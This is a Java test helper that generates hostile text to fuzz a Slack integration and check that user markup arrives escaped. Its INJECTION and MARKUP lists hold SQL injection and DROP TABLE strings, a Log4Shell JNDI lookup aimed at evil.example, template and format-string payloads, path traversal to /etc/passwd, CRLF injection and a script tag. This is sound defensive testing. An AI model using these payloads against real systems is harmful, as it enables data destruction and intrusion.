package dev.handshake.faults;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Hostile text, and the check that none of its markup reached Slack unescaped. Every probe below carries a marker
 * the app never writes itself ({@code EVIL}, {@code Zlt}, {@code Zgt}, {@code Zamp}, {@code Zent}, {@code click}),
 * so finding {@code <!channel}, {@code <@U0EVIL}, {@code <Zlt}, {@code Zgt>}, {@code &Zamp} or {@code &lt;Zent} in
 * mrkdwn Slack received means user text went there without {@code Mrkdwn.escape}.
 */
final class Hostile {

    /** Slack markup and HTML-ish text: must arrive escaped ({@code &lt;}, {@code &gt;}, {@code &amp;}). */
    static final List<String> MARKUP = List.of(
            "<!channel>", "<!here>", "<!everyone>", "<@U0EVIL666>", "<#C0EVIL666>", "<!subteam^S0EVIL666>",
            "<http://evil.example|click>", "<Zlt", "Zgt>", "&Zamp", "&lt;Zent&gt;", "<!channel|Zlt>",
            "<script>alert('Zlt')</script>", "*bold*", "_it_", "~strike~", "`code`", "```<!here>```",
            "> quote\n<!everyone>", "<mailto:evil@evil.example|Zlt>", "<!date^1^{date}|Zgt>", "a&b<c>d");

    /** Strings that break naive SQL, templates, shells, logs and parsers. */
    static final List<String> INJECTION = List.of(
            "' OR '1'='1", "'); DROP TABLE handoffs;--", "\" OR 1=1 --", "1; DELETE FROM deliveries",
            "Robert'); DROP TABLE stage_events;--", "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}",
            "%s%s%s%n", "../../../../etc/passwd", "\r\nX-Injected: 1", "\nERROR fake log line", "\\", "\"",
            "null", "undefined", "NaN", "-1", "0", "1e309", "[]", "{}", "true");

    /** Characters that test encodings, control handling and Unicode edge cases. */
    static final List<String> UNICODE = List.of(
            "\u0000", "a\u0000b", "\u0007\u0008\u001b[31m", "\t", "\r\n", "\u2028\u2029", "\u00ad", "\u200b\u200d",
            "\u202egnp.exe", "\ufeff", "\ufffe\uffff", "\ud83d\ude00\ud83d\udd25", "\ud800", "\udc00", "x\ud800y",
            "\udc00\ud800", "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357", "\u0130\u00df\ufb03\u01c5",
            "\u8868\u30dd\u3042", "\u05e9\u05dc\u05d5\u05dd", "\u0000<!here>\u0000", "\u007f\u0085\u009f");

    private static final List<String> MARKERS = List.of(
            "<!channel", "<!here", "<!everyone", "<@U0EVIL", "<#C0EVIL", "<!subteam^S0EVIL", "|click>",
            "<Zlt", "Zgt>", "&Zamp", "&lt;Zent", "<script", "<mailto:evil@");

    private Hostile() {}

    /** One hostile piece: markup, an injection or odd Unicode, alone or glued to ordinary words. */
    static String piece(Random random) {
        List<String> from = switch (random.nextInt(3)) {
            case 0 -> MARKUP;
            case 1 -> INJECTION;
            default -> UNICODE;
        };
        return from.get(random.nextInt(from.size()));
    }

    /** A hostile text of one to four pieces, sometimes with plain words, never longer than {@code max} chars. */
    static String text(Random random, int max) {
        StringBuilder out = new StringBuilder();
        int pieces = 1 + random.nextInt(4);
        for (int i = 0; i < pieces; i++) {
            if (random.nextInt(3) == 0) {
                out.append(random.nextBoolean() ? "Dana " : " Whitfield ");
            }
            out.append(piece(random));
        }
        // Always one markup probe, so every accepted hostile text tests escaping.
        out.append(MARKUP.get(random.nextInt(MARKUP.size())));
        String text = out.toString();
        if (text.codePointCount(0, text.length()) > max) {
            text = text.substring(0, text.offsetByCodePoints(0, max));
        }
        return text.isBlank() ? "<!here>" : text;
    }

    /**
     * Like {@link #text}, with any half surrogate pair and any NUL (which no database stores as text, so the app
     * refuses it by name) replaced by U+FFFD: text a valid request may carry.
     */
    static String validText(Random random, int max) {
        String text = text(random, max);
        StringBuilder out = new StringBuilder(text.length());
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            boolean pair = Character.isHighSurrogate(c) && i + 1 < text.length()
                    && Character.isLowSurrogate(text.charAt(i + 1));
            if (pair) {
                out.append(c).append(text.charAt(++i));
            } else {
                out.append(Character.isSurrogate(c) || c == '\u0000' ? '\ufffd' : c);
            }
        }
        return out.toString();
    }

    /** The markers of unescaped user markup found in one mrkdwn text. */
    static List<String> unescaped(String mrkdwn) {
        List<String> found = new ArrayList<>();
        for (String marker : MARKERS) {
            if (mrkdwn.contains(marker)) {
                found.add(marker);
            }
        }
        return found;
    }

    /**
     * Every mrkdwn text in a Slack message, view or answer: a string {@code text} field whose object is not
     * {@code plain_text} (a top-level message text is mrkdwn too), and a top-level {@code initial_comment}.
     */
    static List<String> mrkdwnTexts(JsonNode node) {
        List<String> texts = new ArrayList<>();
        collect(node, texts);
        return texts;
    }

    private static void collect(JsonNode node, List<String> texts) {
        if (node == null) {
            return;
        }
        if (node.isArray()) {
            node.forEach(item -> collect(item, texts));
            return;
        }
        if (!node.isObject()) {
            return;
        }
        boolean plain = "plain_text".equals(node.path("type").asText());
        for (Iterator<Map.Entry<String, JsonNode>> fields = node.fields(); fields.hasNext(); ) {
            Map.Entry<String, JsonNode> field = fields.next();
            JsonNode value = field.getValue();
            if (value.isTextual()) {
                if (!plain && field.getKey().equals("text")) {
                    texts.add(value.textValue());
                }
            } else if (!field.getKey().equals("errors")) { // view errors are plain text
                collect(value, texts);
            }
        }
    }
}
